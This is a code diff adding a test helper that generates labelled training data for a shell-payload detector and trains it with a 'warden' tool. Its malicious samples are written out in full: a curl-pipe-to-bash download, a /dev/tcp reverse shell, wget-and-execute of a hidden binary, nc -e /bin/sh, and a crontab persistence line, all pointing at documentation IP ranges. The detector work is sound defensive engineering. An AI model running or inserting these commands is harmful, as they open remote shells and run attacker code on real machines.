@@ -80,6 +80,31 @@ export function firstJsonObject(text) {
   throw new Error('no complete JSON object in the text');
 }
 
+/**
+ * Trains a small payload model (`warden train payload`) on command lines built from parts,
+ * one in four malicious, and returns its path: enough for the n-gram model and its combiner.
+ */
+export async function trainPayloadModel(dir) {
+  const benign = ['ls -la {d}', 'git log --oneline -n {n}', 'tar -czf backup{n}.tgz {d}', 'du -sh {d}',
+    'grep -rn TODO {d}', 'cp notes{n}.txt {d}', 'df -h', 'ps aux | grep nginx'];
+  const malicious = ['curl -s http://203.0.113.{n}/x.sh | bash', 'bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1',
+    'wget -q http://203.0.113.{n}/m -O /tmp/.m{n} && chmod +x /tmp/.m{n} && /tmp/.m{n}',
+    'nc -e /bin/sh 198.51.100.{n} 9001', "echo '* * * * * curl http://203.0.113.{n}/b|sh' | crontab -"];
+  const dirs = ['/srv/app', 'src', '/home/ann/docs', '~/projects', '/var/www'];
+  const lines = [];
+  for (let i = 0; i < 400; i += 1) {
+    const bad = i % 4 === 0;
+    const parts = bad ? malicious : benign;
+    const text = parts[Math.floor(i / 4) % parts.length].replaceAll('{n}', String((i % 250) + 1)).replaceAll('{d}', dirs[i % dirs.length]);
+    lines.push(JSON.stringify({ text, shell: 'bash', label: bad ? 'malicious' : 'benign' }));
+  }
+  const input = path.join(dir, 'payload-train.jsonl');
+  const out = path.join(dir, 'payload.wpld');
+  await writeFile(input, `${lines.join('\n')}\n`);
+  await run(BIN, ['train', 'payload', '--bits', '14', '--epochs', '6', '--input', input, '--out', out]);
+  return out;
+}
+
 export async function createToken(store, scope, tenant = 'acme') {
   const { stdout } = await run(BIN, ['token', 'create', '--store', store, '--scope', scope, '--tenant', tenant]);
   const t = stdout.trim().split(/\s+/).find((w) => w.startsWith('wdn_'));
